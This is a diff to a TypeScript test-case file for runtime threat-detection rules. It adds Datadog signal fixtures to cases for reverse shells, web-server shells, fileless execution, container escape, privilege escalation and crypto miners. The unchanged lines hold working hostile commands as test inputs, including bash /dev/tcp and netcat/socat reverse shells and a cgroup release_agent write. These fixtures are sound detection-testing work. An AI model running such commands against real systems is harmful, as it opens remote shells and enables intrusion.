@@ -1,10 +1,21 @@
 /** Cases of the rules of class `threat`. */
 import type { RuleCases } from "./cases.ts";
-import { exec, falcoHit, file, kernel, network, onHost, tetragonHit, traceeHit } from "./events.ts";
+import {
+  datadogHit,
+  exec,
+  falcoHit,
+  file,
+  kernel,
+  network,
+  onHost,
+  tetragonHit,
+  traceeHit,
+} from "./events.ts";
 
 export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   "reverse-shell": {
     fires: [
+      datadogHit("php_shell"),
       traceeHit("TRC-101"),
       exec("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
       exec("sh -c mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.7 4444 > /tmp/f"),
@@ -19,6 +30,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "netcat-exec": {
     fires: [
+      datadogHit("socat_shell"),
       exec("nc -e /bin/sh 203.0.113.7 4444"),
       onHost(exec("socat TCP:203.0.113.7:4444 EXEC:/bin/sh")),
       falcoHit("Netcat Remote Code Execution in Container"),
@@ -27,6 +39,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "web-server-spawned-shell": {
     fires: [
+      datadogHit("potential_web_shell_parent"),
       traceeHit("TRC-1016"),
       exec("sh -c id", { parent: { name: "nginx" } }),
       falcoHit("Web Server Spawned Shell"),
@@ -38,6 +51,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "database-spawned-process": {
     fires: [
+      datadogHit("database_shell_execution"),
       exec("sh -c id", { parent: { name: "postgres" } }),
       falcoHit("DB program spawned process"),
     ],
@@ -48,6 +62,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "fileless-exec": {
     fires: [
+      datadogHit("memfd_create"),
       traceeHit("fileless_execution", { process: { name: "3" } }),
       exec("x", { exe: "/memfd:x" }),
       exec("x", { exe: "memfd: (deleted)" }),
@@ -77,6 +92,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "container-escape": {
     fires: [
+      datadogHit("overwrite_entrypoint"),
       traceeHit("cgroup_release_agent"),
       traceeHit("TRC-1031"),
       file("write", "/sys/fs/cgroup/rdma/release_agent", "sh"),
@@ -101,6 +117,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "local-privilege-escalation": {
     fires: [
+      datadogHit("looney_tunables_exploit"),
       falcoHit("Sudo Potential Privilege Escalation"),
       tetragonHit("cve-2023-2460-overlayfs-ubuntu"),
     ],
@@ -143,6 +160,7 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "crypto-miner": {
     fires: [
+      datadogHit("mining_pool_lookup"),
       exec("xmrig -o pool:3333"),
       exec("/opt/a -o stratum+tcp://pool.example:3333"),
       falcoHit("Known Cryptominer Process Executed"),
